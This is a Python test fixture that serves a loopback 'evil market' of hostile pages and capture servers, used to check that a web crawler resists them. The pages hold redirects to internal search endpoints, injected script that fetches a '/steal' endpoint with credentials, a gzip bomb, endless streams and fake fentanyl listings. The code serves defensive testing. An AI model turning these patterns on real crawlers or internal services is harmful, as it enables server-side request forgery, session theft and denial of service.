"""A loopback "evil market" for the hostile-site tests: pages that attack the crawler, and capture servers.

The market (127.0.0.1, its own port) links to one listing page per attack. Two capture servers stand for
what the crawler must never reach: ``trap`` on 127.0.0.1 (another port, e.g. the Elasticsearch one) and
``other`` on 127.0.0.2 (another host). Each records every request it gets, headers included, so a test
can assert that nothing, and no session secret, ever arrived. Started once per test process (lazily,
shared by the test modules), stopped at exit.
"""

from __future__ import annotations

import atexit
import gzip
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

SESSION_TOKEN = "tok-7f3a9c-SECRET"
"""Value of the session header the hostile tests configure (env EVIL_TOKEN)."""
SESSION_COOKIE = "sid-51e8d2-SECRET"
"""Value of the session cookie (env EVIL_SID)."""
SERVER_COOKIE = "srv-c0ffee-SECRET"
"""Value of the cookie the market sets with Set-Cookie (must not reach a WARC file)."""
BIG_BYTES = 50 * 1024 * 1024
"""Size of the attachment and of the oversize page, served lazily in 64 KiB chunks."""
ATTACKS = ("to-trap", "to-other-host", "to-localhost", "chain", "js", "download", "big", "stream", "gzip-bomb",
           "cookie")
"""Listing pages of the market besides the harmless ``ok`` one."""


@dataclass
class Capture:
    """A server that must never be reached: records (path, headers) of every request."""

    name: str
    host: str
    requests: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    server: ThreadingHTTPServer | None = None

    @property
    def base(self) -> str:
        assert self.server is not None
        return f"http://{self.host}:{self.server.server_address[1]}"

    @property
    def port(self) -> int:
        assert self.server is not None
        return int(self.server.server_address[1])

    def clear(self) -> None:
        self.requests.clear()


def _page(title: str, body: str) -> bytes:
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title></head>"
            f"<body>{body}</body></html>").encode()


def _listing(name: str, extra: str = "") -> bytes:
    return _page(f"Listing {name}", f"<h1 class='title'>Fentanyl powder {name}</h1>"
                                    f"<div class='desc'>99% pure, ships from CN ({name})</div>{extra}")


class EvilMarket:
    """The market and its two capture servers; ``bytes_sent`` counts what the big responses really sent."""

    def __init__(self) -> None:
        self.trap = Capture("trap", "127.0.0.1")
        self.other = Capture("other", "127.0.0.2")
        self.hits: dict[str, int] = {}
        self.bytes_sent: dict[str, int] = {}
        self.cookie_headers: list[tuple[str, list[str]]] = []
        """(path, every Cookie header) of each request the market got."""
        self.market: ThreadingHTTPServer | None = None
        self.bomb = gzip.compress(b"<html><body>" + b" " * (16 * 1024 * 1024) + b"</body></html>", 6)

    # ---- lifecycle
    def start(self) -> EvilMarket:
        for cap in (self.trap, self.other):
            cap.server = _serve(cap.host, _capture_handler(cap))
        self.market = _serve("127.0.0.1", self._handler())
        return self

    def stop(self) -> None:
        for server in (self.market, self.trap.server, self.other.server):
            if server is not None:
                server.shutdown()
                server.server_close()

    @property
    def base(self) -> str:
        assert self.market is not None
        return f"http://127.0.0.1:{self.market.server_address[1]}"

    def reset(self) -> None:
        self.trap.clear()
        self.other.clear()
        self.hits.clear()
        self.bytes_sent.clear()
        self.cookie_headers.clear()

    def captured(self) -> list[tuple[str, str, dict[str, str]]]:
        """Every request a capture server got: (server, path, headers)."""
        return [(c.name, p, h) for c in (self.trap, self.other) for p, h in c.requests]

    # ---- pages
    def routes(self) -> dict[str, Callable[[BaseHTTPRequestHandler], None]]:
        trap, other = self.trap, self.other
        links = "".join(f"<a class='item-link' href='/item/{n}'>{n}</a> " for n in ("ok", *ATTACKS))

        def index(req: BaseHTTPRequestHandler) -> None:
            _send(req, 200, _page("Evil market", f"<div id='app'>{links}</div>"))

        def ok(req: BaseHTTPRequestHandler) -> None:
            _send(req, 200, _listing("ok"))

        def redirect(target: str) -> Callable[[BaseHTTPRequestHandler], None]:
            def go(req: BaseHTTPRequestHandler) -> None:
                req.send_response(302)
                req.send_header("Location", target)
                req.send_header("Content-Length", "0")
                req.end_headers()
            return go

        def js(req: BaseHTTPRequestHandler) -> None:
            script = (
                f"<img src='{trap.base}/img.png'><img src='{other.base}/img.png'>"
                "<script>"
                f"fetch('{trap.base}/_all/_search').catch(function(){{}});"
                f"fetch('{other.base}/steal', {{credentials: 'include'}}).catch(function(){{}});"
                f"try {{ new WebSocket('ws://127.0.0.2:{other.port}/ws'); }} catch (e) {{}}"
                f"var x = new XMLHttpRequest(); x.open('GET', '{trap.base}/xhr'); x.send();"
                "</script>"
            )
            _send(req, 200, _listing("js", script))

        def stream(name: str, content_type: str, headers: dict[str, str]) -> Callable[[BaseHTTPRequestHandler], None]:
            def serve(req: BaseHTTPRequestHandler) -> None:
                req.send_response(200)
                req.send_header("Content-Type", content_type)
                req.send_header("Content-Length", str(BIG_BYTES))
                for k, v in headers.items():
                    req.send_header(k, v)
                req.end_headers()
                chunk = b"<p>" + b"x" * (64 * 1024 - 7) + b"</p>\n" if "html" in content_type else b"\0" * 65536
                sent = 0
                try:
                    while sent < BIG_BYTES:
                        req.wfile.write(chunk[: BIG_BYTES - sent])
                        sent += min(len(chunk), BIG_BYTES - sent)
                        self.bytes_sent[name] = sent
                except OSError:
                    pass  # the crawler hung up: what we want
            return serve

        def chunked(req: BaseHTTPRequestHandler) -> None:
            """An HTML page that never says how long it is (chunked, no Content-Length) and goes on and on."""
            req.send_response(200)
            req.send_header("Content-Type", "text/html; charset=utf-8")
            req.send_header("Transfer-Encoding", "chunked")
            req.end_headers()
            chunk = b"<p>" + b"x" * (64 * 1024 - 7) + b"</p>\n"
            sent = 0
            try:
                req.wfile.write(b"%x\r\n%s\r\n" % (len(HEAD), HEAD))
                while sent < BIG_BYTES:
                    req.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                    sent += len(chunk)
                    self.bytes_sent["stream"] = sent
                    # paced (at most ~16 MB/s): the 50 MB take over 3 s, so "stopped before the end" does not
                    # depend on how fast a busy machine carries the stop through Playwright
                    time.sleep(0.004)
                req.wfile.write(b"0\r\n\r\n")
            except OSError:
                pass  # the crawler hung up: what we want

        def bomb(req: BaseHTTPRequestHandler) -> None:
            _send(req, 200, self.bomb, headers={"Content-Encoding": "gzip"})

        def cookie(req: BaseHTTPRequestHandler) -> None:
            _send(req, 200, _listing("cookie"), headers={"Set-Cookie": f"srv={SERVER_COOKIE}; Path=/; HttpOnly"})

        return {
            "/": index,
            "/item/ok": ok,
            "/item/to-trap": redirect(f"{trap.base}/_all/_search"),
            "/item/to-other-host": redirect(f"{other.base}/steal"),
            "/item/to-localhost": redirect(f"http://localhost:{trap.port}/_cluster/settings"),
            "/item/chain": redirect("/item/chain-2"),
            "/item/chain-2": redirect(f"{trap.base}/_all/_search?chain"),
            "/item/js": js,
            "/item/download": stream("download", "application/octet-stream",
                                     {"Content-Disposition": 'attachment; filename="stock.zip"'}),
            "/item/big": stream("big", "text/html; charset=utf-8", {}),
            "/item/stream": chunked,
            "/item/gzip-bomb": bomb,
            "/item/cookie": cookie,
        }

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        routes = self.routes()
        hits = self.hits
        cookie_headers = self.cookie_headers

        class Market(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                path = self.path.split("?", 1)[0]
                hits[path] = hits.get(path, 0) + 1
                cookie_headers.append((self.path, self.headers.get_all("Cookie") or []))
                handler = routes.get(path)
                if handler is None:
                    _send(self, 404, _page("not found", "not found"))
                    return
                handler(self)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        return Market


def _capture_handler(cap: Capture) -> type[BaseHTTPRequestHandler]:
    class Trap(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            cap.requests.append((self.path, dict(self.headers.items())))
            _send(self, 200, b'{"hits": {"hits": [{"_source": {"title": "Fentanyl from the trap"}}]}}',
                  "application/json")

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Trap


def _serve(host: str, handler: type[BaseHTTPRequestHandler]) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer((host, 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def _send(req: BaseHTTPRequestHandler, status: int, body: bytes, content_type: str = "text/html; charset=utf-8",
          headers: dict[str, str] | None = None) -> None:
    req.send_response(status)
    req.send_header("Content-Type", content_type)
    req.send_header("Content-Length", str(len(body)))
    for k, v in (headers or {}).items():
        req.send_header(k, v)
    req.end_headers()
    try:
        req.wfile.write(body)
    except OSError:
        pass


HEAD = b"<!DOCTYPE html><html><head><meta charset='utf-8'><title>Listing stream</title></head><body>"
"""Start of the endless page: a document the browser begins to parse at once."""

_MARKET: EvilMarket | None = None
_LOCK = threading.Lock()


def evil_market() -> EvilMarket:
    """The process's evil market, started on first use and stopped at exit (state reset for each caller)."""
    global _MARKET
    with _LOCK:
        if _MARKET is None:
            _MARKET = EvilMarket().start()
            atexit.register(_MARKET.stop)
    _MARKET.reset()
    return _MARKET


def hostile_source(market: EvilMarket, name: str, kind: str = "market", **extra: Any) -> dict[str, Any]:
    """A source of the evil market with a session (header and cookie from EVIL_TOKEN / EVIL_SID)."""
    source: dict[str, Any] = {
        "name": name, "kind": kind, "allow_private_addresses": True,  # the market itself is on loopback
        "start_urls": [f"{market.base}/"], "robots": "ignore",
        "rate_limit": {"download_delay": 0, "concurrency": 4, "randomize": False},
        "retry": {"times": 0}, "timeout": 20, "max_page_bytes": 1024 * 1024,
        "session": {"headers_env": {"X-Auth-Token": "EVIL_TOKEN"}, "cookies_env": {"sid": "EVIL_SID"}},
        "links": {"listing": "a.item-link"},
        "fields": {"title": "h1.title", "description": "div.desc"},
    }
    source.update(extra)
    return source


SESSION_ENV = {"EVIL_TOKEN": SESSION_TOKEN, "EVIL_SID": SESSION_COOKIE}
